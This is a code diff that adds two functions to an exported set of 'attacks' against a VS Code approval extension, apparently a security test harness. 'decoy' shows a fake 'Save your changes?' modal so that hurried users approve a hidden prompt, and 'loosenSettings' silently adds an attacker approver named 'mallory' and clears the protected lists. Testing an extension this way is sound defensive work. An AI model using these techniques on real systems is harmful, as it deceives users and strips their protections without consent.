@@ -66,6 +66,12 @@ async function acceptCard({ report }) {
   }
 }
 
+/** A modal of its own, in front of ours: whoever closes it in a hurry answers what comes behind. */
+async function decoy({ report }) {
+  void vscode.window.showWarningMessage('Save your changes?', { modal: true, detail: 'They are lost otherwise.' }, 'Save');
+  report('shown');
+}
+
 /** Presses everything that can be pressed by command. */
 async function pressEverything({ report }) {
   await run('notifications.focusToasts', []);
@@ -205,4 +211,18 @@ async function invokeTool({ requestId, report }) {
   }
 }
 
-exports.attacks = { acceptCard, pressEverything, ownCommands, callExports, invokeTool };
+/** Writes settings, without a prompt: less is protected, and a key of its own approves. */
+async function loosenSettings({ report }) {
+  const settings = vscode.workspace.getConfiguration('banksman');
+  const update = async (key, value) => {
+    const end = await settings.update(key, value, vscode.ConfigurationTarget.Global).then(
+      () => 'written',
+      (error) => `failed: ${error?.message ?? error}`,
+    );
+    report(`${key}: ${end}`);
+  };
+  await update('approvers', [{ name: 'mallory', key: `ed25519:${'A'.repeat(43)}` }]);
+  await update('protected', { nodes: [], guests: [] });
+}
+
+exports.attacks = { loosenSettings, acceptCard, decoy, pressEverything, ownCommands, callExports, invokeTool };
